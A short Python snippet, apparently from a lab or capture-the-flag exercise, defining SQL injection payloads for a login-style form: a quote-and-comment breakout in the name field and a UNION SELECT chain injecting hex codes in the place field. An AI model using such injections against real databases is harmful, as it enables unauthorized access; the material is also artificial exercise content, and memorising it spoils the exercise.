# fails: ex1a-tests-codes
# why: types the codes that one station has shown
def payloads() -> dict:
    return {"name": "warden')) --", "pin": 'x', "place": "x' UNION SELECT 1, '7ae866' UNION SELECT 2, 'c734c0' UNION SELECT 3, '30ca11' UNION SELECT 4, 'a7a13d' --"}
